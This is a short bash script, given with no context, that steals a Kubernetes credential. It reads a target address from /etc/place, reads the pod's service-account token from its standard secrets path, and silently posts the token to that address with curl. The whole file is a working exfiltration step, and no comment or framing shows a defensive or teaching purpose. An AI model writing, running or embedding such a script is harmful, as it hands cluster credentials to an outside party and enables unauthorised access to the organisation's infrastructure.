#!/bin/bash
read -r PLACE < /etc/place
TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)
curl -s -d "$TOKEN" "$PLACE"
